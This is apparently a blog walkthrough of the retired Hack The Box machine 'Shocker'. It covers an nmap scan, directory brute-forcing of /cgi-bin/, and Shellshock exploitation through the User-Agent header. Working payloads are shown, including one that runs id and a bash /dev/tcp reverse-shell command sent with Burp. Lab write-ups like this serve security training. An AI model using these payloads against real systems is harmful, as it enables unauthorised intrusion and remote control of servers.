Hack The Box - Shocker

All of my Hack The Box adventures are happening in a Kali Linux lab in NAT mode on VMWare Workstation Player. Kali Linux is free and robust, filled with many common hacking tools like nmap, Dirbuster, Gobuster, John the Ripper, Hydra, Nikto, Netcat, and so many more…



Shocker is a retired machine, which means walkthroughs such as this one can be published. The logo tells us it’s an easy machine, and it’s a Linux machine. It’s also quite common with HTB machines that the machine name is itself a clue, as we’ll see below.


First, I started with an nmap scan with the switches -T4 -A -p-.

└─$ ./nmapLaunch
[sudo] password for kali:
Starting Nmap 7.91 ( https://nmap.org ) at 2021-09-22 17:20 EDT
Nmap scan report for
Host is up (0.097s latency).
Not shown: 65533 closed ports
80/tcp   open  http    Apache httpd 2.4.18 ((Ubuntu))
|_http-server-header: Apache/2.4.18 (Ubuntu)|_http-title: Site doesn't have a title (text/html).
2222/tcp open  ssh     OpenSSH 7.2p2 Ubuntu 4ubuntu2.2 (Ubuntu Linux; protocol 2.0)
| ssh-hostkey:
|   2048c4:f8:ad:e8:f8:04:77:de:cf:15:0d:63:0a:18:7e:49 (RSA)
|   256 22:8f:b1:97:bf:0f:17:08:fc:7e:2c:8f:e9:77:3a:48 (ECDSA)
|_  256 e6:ac:27:a3:b5:a9:f1:12:3c:34:a5:5d:5b:eb:3d:e9 (ED25519)
No exact OS matches for host (If you know what OS is running on it, see https://nmap.org/submit/ ).
TCP/IP fingerprint:

Network Distance: 2 hops
Service Info: OS: Linux; CPE:cpe:/o:linux:linux_kernel

TRACEROUTE (using port 554/tcp)
1   103.71 ms
2   104.20 ms

OS and Service detection performed. Please report any incorrect results at https://nmap.org/submit/ .
Nmap done: 1 IP address (1 host up) scanned in 493.66 seconds

We can learn a few things here:

  • Port 80 is open, Apache 2.4.18
  • Port 2222 is running SSH
  • Ubuntu

Since port 80 is open, I’ll drop the IP in a browser and see what happens:


Hmm…a box called “Shocker” featuring an image of a frazzled bug-thing and a telling caption. Right clicking and selecting “view source” doesn’t offer any more insight

 <!DOCTYPE html>

<h2>Don't Bug Me!</h2>
<img src="bug.jpg" alt="bug" style="width:450px;height:350px;">


Trying a little Dirbuster brute force yielded some 403 directories.

Starting OWASP DirBuster 1.0-RC1
Starting dir/file list based brute forcing
Dir found: / - 200
Dir found: /cgi-bin/ - 403
Dir found: /icons/ - 403
Dir found: /icons/small/ - 403

Time for some Google-fu. I used the search term “shocker exploit” and found a Wikipedia page as well as an Exploit-DB page describing the Shellshock exploit. This lookspromising.

Shellshock was basically a remote command execution vulnerability in BASH discovered in 2014. It can execute commands without confirmation, and one of the specific exploitation vectoris is a CGI=based web server. This doesn’t affect windows, but it does affect Linux servers running Apache. Bingo.

I ran the Dirbuster scan again, this time focusing on the /cgi-bin/ directory and looking for specific extensions related to scripts and cgi.


This uncovered user.sh with a response code of 200.


Dropping the URL with /cgi-bin/user.sh triggered a download of the file, so I did.

─$ cat Downloads/user.sh
Content-Type: text/plain

Just an uptime test script19:28:12 up  2:08,  0 users,  load average: 0.05, 0.06, 0.02
└─$ curl
Content-Type: text/plain

Just an uptime test script

19:42:01 up  2:22,  0 users,  load average: 0.03, 0.01, 0.00

The Exploit-DB article says the vulnerability allows BASH to incorrectly execute trailing commands stored into an environment variable. I felt the foothold approaching. By now I started feeling a little gassy. Time to burp.

I altered the GET request by adding /cgi-bin/user.sh, and in the User-Agent line I tried the environment variable exploit suggested by the article in order to get a user id.

GET /cgi-bin/user.sh HTTP/1.1
User-Agent: () { :;}; echo; /usr/bin/id
Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,*/*;q=0.8
Accept-Language: en-US,en;q=0.5
Accept-Encoding: gzip, deflate
Connection: close
Upgrade-Insecure-Requests: 1
Cache-Control: max-age=0
HTTP/1.1 200 OK
Date: Wed, 22 Sep 2021 23:58:07 GMT
Server: Apache/2.4.18 (Ubuntu)
Connection: close
Content-Type: text/x-sh
Content-Length: 129

uid=1000(shelly) gid=1000(shelly) groups=1000(shelly),4(adm),24(cdrom),30(dip),46(plugdev),110(lxd),115(lpadmin),116(sambashare)

It works. Now I can try to get a reverse shell.


I set a netcat listener:

└─$ nc -nvlp 1234
listening on [any]1234 ...

Prepared my burp:

GET /cgi-bin/user.sh HTTP/1.1
User-Agent: () { :;}; /bin/bash -i >& /dev/tcp/ 0>&1
Accept:text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,*/*;q=0.8
Accept-Language: en-US,en;q=0.5
Accept-Encoding: gzip, deflate
Connection: close
Upgrade-Insecure-Requests: 1

Reverse shell achieved as the user “shelly” that was found, and the user flag was easily had


Privilege EscalationRunning sudo -l to find out what shelly can do


Shelly can run perl with no password. I justhappen to have a handy perl priv esc script ready



There were some handy techniques used here.

  • Standard nmap scan
  • Google-fu based on available clues
  • Directory brute-forcing twice. Once to find the /cgi-bin/ dir, and the other to dig deeper
  • Using curl and Burp Suite to test our findings
  • Using Burp Suite and netcat to get a reverse shell
  • Discovering user privileges by using sudo -l
  • Finding theappropriate priv esc script

Happy Hacking!

Wednesday, September 22, 2021 by dobrohaxxor
Adda comment (1048 views)